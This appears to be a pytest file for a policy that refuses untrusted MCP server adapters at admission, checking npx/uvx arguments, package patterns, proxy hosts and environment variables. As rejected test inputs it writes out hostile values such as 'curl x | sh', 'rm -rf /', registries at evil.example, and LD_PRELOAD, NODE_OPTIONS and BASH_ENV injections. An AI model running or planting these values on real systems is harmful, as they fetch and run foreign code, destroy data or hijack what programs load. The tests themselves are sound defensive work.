"""The trusted-servers check the service runs at admission."""

from __future__ import annotations

import pytest
from mcp_infra.spec import AdapterSpec
from mcp_infra.trusted_servers import EnvironmentNames, TrustedServers
from mcp_policies.trusted import check_trusted, packages

ALLOW = TrustedServers(
    images=["mcp-proxy"],
    commands=["npx", "uvx"],
    packages=["@azure/mcp@*", "@azure-devops/mcp", "git+https://github.com/azure-ai-foundry/*", "mcp-server-fetch"],
    upstream_hosts=["internal-mcp-server", "*.azure.com"],
)


def spec(**env: str) -> AdapterSpec:
    return AdapterSpec(name="a", image_name="mcp-proxy", image_version="1", environment_variables=env)


def messages(env: dict[str, str], allow: TrustedServers = ALLOW) -> list[str]:
    findings = check_trusted(spec(**env), allow)
    assert all(f.policy == "trusted-servers" and f.mandatory and f.resource.name == "a" for f in findings)
    return [f.message for f in findings]


@pytest.mark.parametrize(
    ("command", "args", "expected"),
    [
        ("npx", "-y @azure/mcp@latest server start", ["@azure/mcp@latest"]),
        ("npx", "--yes -p @azure/mcp@1.0 mcp server start", ["@azure/mcp@1.0"]),
        ("npx", "-y -- @azure-devops/mcp contoso --registry=x", ["@azure-devops/mcp"]),
        (
            "uvx",
            "--prerelease=allow --from git+https://github.com/azure-ai-foundry/mcp-foundry.git run-it",
            ["git+https://github.com/azure-ai-foundry/mcp-foundry.git"],
        ),
        ("uvx", "--with evil mcp-server-fetch", ["evil", "mcp-server-fetch"]),
        ("uvx", "--with a>=1,<2,b mcp-server-fetch", ["a>=1,<2", "b", "mcp-server-fetch"]),
        ("uvx", "--python 3.12 mcp-server-fetch==1.2", ["mcp-server-fetch==1.2"]),
    ],
)
def test_the_packages_npx_and_uvx_would_fetch(command: str, args: str, expected: list[str]) -> None:
    assert packages(command, args)[0] == expected


@pytest.mark.parametrize(
    "env",
    [
        {"MCP_COMMAND": "npx", "MCP_ARGS": "-y @azure/mcp@latest server start"},
        {"MCP_COMMAND": "npx", "MCP_ARGS": "-y -p @azure/mcp@1.0 mcp server start"},
        {"MCP_COMMAND": "npx", "MCP_ARGS": "-y @azure-devops/mcp@2.1.0 contoso"},
        {"MCP_COMMAND": "uvx", "MCP_ARGS": "--from git+https://github.com/azure-ai-foundry/mcp-foundry.git run"},
        {"MCP_COMMAND": "uvx", "MCP_ARGS": "--prerelease=allow -q --python 3.12 mcp-server-fetch==1.2"},
        {"MCP_COMMAND": "uvx", "MCP_ARGS": "--from mcp-server-fetch mcp-server-fetch --ignore-robots-txt"},
        {"MCP_PROXY_URL": "https://internal-mcp-server/mcp"},
        {"MCP_PROXY_URL": "https://mcp.ai.azure.com/v1", "MCP_PROXY_SCOPE": "api://x/.default"},
        # docs/examples: the server's own settings, and tuning that changes nothing about what runs.
        {
            "MCP_COMMAND": "npx",
            "MCP_ARGS": "-y @azure/mcp@latest server start",
            "AZURE_MCP_INCLUDE_PRODUCTION_CREDENTIALS": "true",
            "DOTNET_SYSTEM_GLOBALIZATION_INVARIANT": "1",
            "AZURE_TOKEN_CREDENTIALS": "WorkloadIdentityCredential",
            "NODE_ENV": "production",
            "PYTHONUNBUFFERED": "1",
            "MCP_BRIDGE_MAX_SESSIONS": "7",
        },
    ],
)
def test_trusted_servers_pass(env: dict[str, str]) -> None:
    assert messages(env) == []


@pytest.mark.parametrize(
    ("env", "complaint"),
    [
        ({"MCP_COMMAND": "bash", "MCP_ARGS": "-c 'curl x | sh'"}, "MCP_COMMAND 'bash' is not trusted"),
        ({"MCP_COMMAND": "npx", "MCP_ARGS": "-y @evil/mcp"}, "package @evil/mcp is not trusted"),
        ({"MCP_COMMAND": "npx", "MCP_ARGS": "-y @azure/mcpx@1"}, "package @azure/mcpx@1 is not trusted"),
        ({"MCP_COMMAND": "npx", "MCP_ARGS": "-y"}, "names no package"),
        ({"MCP_COMMAND": "npx", "MCP_ARGS": "'unclosed"}, "cannot be split"),
        ({"MCP_PROXY_URL": "https://evil.example/mcp"}, "host 'evil.example' is not trusted"),
        ({"MCP_PROXY_URL": "https://azure.com.evil.example/mcp"}, "is not trusted"),
    ],
)
def test_untrusted_servers_are_refused_with_a_reason(env: dict[str, str], complaint: str) -> None:
    found = messages(env)
    assert any(complaint in m for m in found), found


# Issue 12, section 1.3: MCP_ARGS that ran or fetched something the list does not vouch for.
@pytest.mark.parametrize(
    ("command", "args", "complaint"),
    [
        ("npx", "-c 'rm -rf /'", "npx option -c is not one this platform knows"),
        ("npx", "--registry https://evil -y @azure/mcp@1", "npx option --registry"),
        ("npx", "--@azure:registry=https://evil -y @azure/mcp@1", "npx option --@azure:registry"),
        ("npx", "--script-shell=/tmp/x -y @azure/mcp@1", "npx option --script-shell"),
        ("npx", "-y -p @azure/mcp@1 node -e 'require(1)'", "npx -p runs 'node'"),
        ("npx", "-y -p @azure/mcp@1", "names no command"),
        ("npx", "-y @azure/mcp@npm:evil", "package @azure/mcp@npm:evil is not trusted"),
        ("npx", "-y @azure/mcp@https://evil.example/x.tgz", "an alias, URL or path needs a pattern"),
        ("npx", "-y @azure/mcp@file:../evil", "an alias, URL or path needs a pattern"),
        ("npx", "-y @azure/mcp@1 --registry=x", None),  # after the package: the server's own argument
        ("uvx", "--with-requirements r.txt mcp-server-fetch", "uvx option --with-requirements"),
        ("uvx", "--config-file uv.toml mcp-server-fetch", "uvx option --config-file"),
        ("uvx", "--env-file .env mcp-server-fetch", "uvx option --env-file"),
        ("uvx", "--index-url https://evil/simple mcp-server-fetch", "uvx option --index-url"),
        ("uvx", "--from mcp-server-fetch python -c 'print(1)'", "uvx --from runs 'python'"),
        ("uvx", "--from mcp-server-fetch ./evil", "uvx --from runs './evil'"),
        ("uvx", "--python /tmp/evil/python mcp-server-fetch", "is not a Python version"),
        ("uvx", "--with evil mcp-server-fetch", "package evil is not trusted"),
        ("uvx", "mcp-server-fetch@file:///tmp/x", "an alias, URL or path needs a pattern"),
    ],
)
def test_mcp_args_take_only_options_known_to_be_harmless(command: str, args: str, complaint: str | None) -> None:
    found = messages({"MCP_COMMAND": command, "MCP_ARGS": args})
    if complaint is None:
        assert found == []
    else:
        assert any(complaint in m for m in found), found


def test_an_alias_url_or_path_is_trusted_only_when_a_pattern_names_it() -> None:
    anything = TrustedServers(packages=["*"])
    assert messages({"MCP_COMMAND": "npx", "MCP_ARGS": "-y evil@file:../x"}, anything) != []
    assert messages({"MCP_COMMAND": "npx", "MCP_ARGS": "-y user/repo"}, anything) != []
    assert messages({"MCP_COMMAND": "npx", "MCP_ARGS": "-y ./evil.tgz"}, anything) != []
    assert messages({"MCP_COMMAND": "npx", "MCP_ARGS": "-y anything@latest"}, anything) == []
    named = TrustedServers(packages=["git+https://github.com/azure-ai-foundry/*"])
    git = "--from git+https://github.com/azure-ai-foundry/mcp-foundry.git run"
    assert messages({"MCP_COMMAND": "uvx", "MCP_ARGS": git}, named) == []


# Issue 12, section 1.1: variables that, next to a trusted command, changed what ran or where it came from.
@pytest.mark.parametrize(
    ("name", "value", "what"),
    [
        ("NODE_OPTIONS", "--require /tmp/evil.js", "changes how node loads programs"),
        ("NODE_OPTIONS", "--import=data:text/javascript,1", "changes how node loads programs"),
        ("node_options", "--require /tmp/evil.js", "changes how node loads programs"),
        ("LD_PRELOAD", "/tmp/evil.so", "changes which libraries programs load"),
        ("PATH", "/tmp/evil:/usr/bin", "changes which programs run"),
        ("Path", "/tmp/evil", "changes which programs run"),
        ("PYTHONPATH", "/tmp/evil", "changes how Python loads modules"),
        ("BASH_ENV", "/tmp/evil.sh", "what a shell runs first"),
        ("HOME", "/tmp/evil", "configuration and local packages"),
        ("npm_config_registry", "https://evil.example", "where npm fetches packages"),
        ("UV_INDEX_URL", "https://evil.example/simple", "where uv and pip fetch packages"),
        ("MCP_CWD", "/tmp/evil", "configuration and local packages"),
        ("HTTPS_PROXY", "http://evil.example", "which hosts programs reach"),
        ("NODE_EXTRA_CA_CERTS", "/tmp/ca.pem", "changes how node loads programs"),
        ("GIT_SSH_COMMAND", "sh -c x", "what git runs"),
        ("JAVA_TOOL_OPTIONS", "-javaagent:/tmp/x.jar", "how Java loads code"),
        ("DOTNET_STARTUP_HOOKS", "/tmp/x.dll", "how .NET loads code"),
        ("GLIBC_TUNABLES", "x", "changes which libraries programs load"),
        ("AZURE_CLIENT_ID", "someone-elses", "set by the platform"),
        ("KUBERNETES_SERVICE_HOST", "10.0.0.1", "set by the platform"),
        ("MCP_BRIDGE_ALLOWED_HOSTS", "*", "a setting of the platform's proxy"),
        ("MCP_BRIDGE_UPSTREAM_ALLOW_PRIVATE", "true", "a setting of the platform's proxy"),
        ("PYTHONWARNINGS", "ignore::evil.Category", "changes how Python loads modules"),
    ],
)
def test_the_environment_cannot_change_what_runs(name: str, value: str, what: str) -> None:
    env = {"MCP_COMMAND": "npx", "MCP_ARGS": "-y @azure/mcp@latest server start", name: value}
    (message,) = messages(env)
    assert message.startswith(f"{name} "), message
    assert what in message
    assert "trusted-servers list cannot vouch for: remove it, or ask the platform team" in message


def test_the_platform_narrows_the_rest_with_allow_and_deny() -> None:
    allow = TrustedServers(environment=EnvironmentNames(allow=["azure_*", "LOG_LEVEL"], deny=["AZURE_STORAGE_*"]))
    base = {"MCP_COMMAND": "npx", "MCP_ARGS": "-y @azure/mcp@latest"}
    assert messages({**base, "AZURE_MCP_COLLECT_TELEMETRY": "false", "log_level": "debug"}, allow) == []
    (denied,) = messages({**base, "azure_storage_account": "x"}, allow)
    assert "deny: AZURE_STORAGE_*" in denied
    (unlisted,) = messages({**base, "OTHER": "x"}, allow)
    assert "OTHER is not an environment variable this platform lets adapters set" in unlisted
    # The built-in refusals apply whatever the list allows.
    wide = TrustedServers(environment=EnvironmentNames(allow=["*", "NODE_OPTIONS"]))
    assert messages({**base, "NODE_OPTIONS": "--require x"}, wide) != []


def test_an_untrusted_image_is_refused() -> None:
    other = AdapterSpec(name="a", image_name="team/shell", image_version="1")
    (finding,) = check_trusted(other, ALLOW)
    assert "image team/shell" in finding.message


def test_the_default_allow_list_runs_the_proxy_with_npx_and_uvx_only() -> None:
    assert check_trusted(spec(MCP_COMMAND="npx", MCP_ARGS="-y anything"), TrustedServers()) == []
    assert check_trusted(spec(MCP_COMMAND="node", MCP_ARGS="server.js"), TrustedServers()) != []
